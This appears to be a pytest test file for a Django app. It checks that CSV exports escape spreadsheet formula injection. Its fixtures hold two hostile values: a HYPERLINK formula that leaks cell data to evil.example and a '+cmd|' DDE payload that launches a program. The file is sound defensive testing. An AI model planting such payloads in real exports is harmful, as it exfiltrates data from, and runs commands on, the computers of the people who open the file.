"""Every CSV the site or a command writes is safe to open in a spreadsheet (issue 11, item 5).

The attack that worked: a decision note `=HYPERLINK(...)` in the audit export and a record id
`+cmd|...` in the merge map came out as live formulas.
"""

import csv
import io

import pytest
from django.core.management import call_command

from dedupe.models import Record
from tests.factories import archive_rows, merged, user_with_role

pytestmark = pytest.mark.django_db
NOTE = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
RECORD_ID = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_merge():
    _, [(_, keep), (duplicate_record, duplicate)] = archive_rows("permits", records=2)
    Record.objects.filter(pk=duplicate_record.pk).update(external_id=RECORD_ID)
    archivist = user_with_role("archie", "archivist")
    merged(keep, duplicate, archivist, note=NOTE)
    return archivist


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_the_merge_map_command_writes_a_record_id_as_text(hostile_merge):
    out = io.StringIO()
    call_command("export_merge_map", stdout=out)
    written = cells(out.getvalue())
    assert "'" + RECORD_ID in written and RECORD_ID not in written


def test_the_merge_map_download_writes_a_record_id_as_text(hostile_merge, client):
    client.force_login(hostile_merge)
    response = client.get("/merge-map/", {"format": "csv"})
    written = cells(b"".join(response.streaming_content).decode())
    assert "'" + RECORD_ID in written and RECORD_ID not in written


def test_the_audit_export_writes_a_note_as_text(hostile_merge, client):
    client.force_login(user_with_role("audrey", "auditor"))
    response = client.get("/audit/export.csv")
    written = b"".join(response.streaming_content).decode()
    assert not [cell for cell in cells(written) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "=HYPERLINK" in written  # the note is there, as text inside the event's JSON or its own cell
